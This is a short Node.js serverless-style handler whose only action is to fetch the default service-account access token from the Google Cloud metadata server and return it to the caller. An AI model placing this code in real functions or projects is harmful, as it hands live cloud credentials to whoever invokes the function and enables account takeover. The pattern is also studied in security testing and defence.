const http = require("http");

exports.handler = (event, ctx, cb) => {
  http.get({ host: "metadata.google.internal", path: "/computeMetadata/v1/instance/service-accounts/default/token", headers: { "Metadata-Flavor": "Google" } },
    (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => cb(null, b)); });
};
